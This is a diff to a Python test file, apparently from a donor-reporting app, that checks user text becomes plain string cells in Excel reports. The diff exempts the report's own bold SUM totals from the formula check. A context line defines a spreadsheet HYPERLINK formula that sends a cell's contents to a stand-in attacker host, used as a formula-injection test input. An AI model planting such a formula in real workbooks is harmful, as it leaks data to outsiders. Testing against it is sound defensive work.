@@ -3,6 +3,8 @@ is a string cell in every report workbook (never a formula), and markup in a tit
 printed as typed in the PDF (which still builds). Checked on the demo data, with the
 texts changed in place, through the same generation the Celery task runs."""
 
+import re
+
 import pytest
 
 from donors.models import FundingAgreement
@@ -18,13 +20,18 @@ HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"Click")'
 MARKUP_TITLE = "Mentoring <b>CTD Sindh investigators"
 
 
+OWN_TOTAL = re.compile(r"=SUM\([A-Z]+[0-9]+(:[A-Z]+[0-9]+)?(,[A-Z]+[0-9]+(:[A-Z]+[0-9]+)?)*\)")
+
+
 def formula_cells(book) -> list[str]:
+    """Formula cells other than the report's own totals (SUMs over cell references in
+    bold total rows)."""
     return [
         f"{sheet.title}!{cell.coordinate}"
         for sheet in book.worksheets
         for row in sheet.iter_rows()
         for cell in row
-        if cell.data_type == "f"
+        if cell.data_type == "f" and not (OWN_TOTAL.fullmatch(cell.value) and cell.font.bold)
     ]
 
 
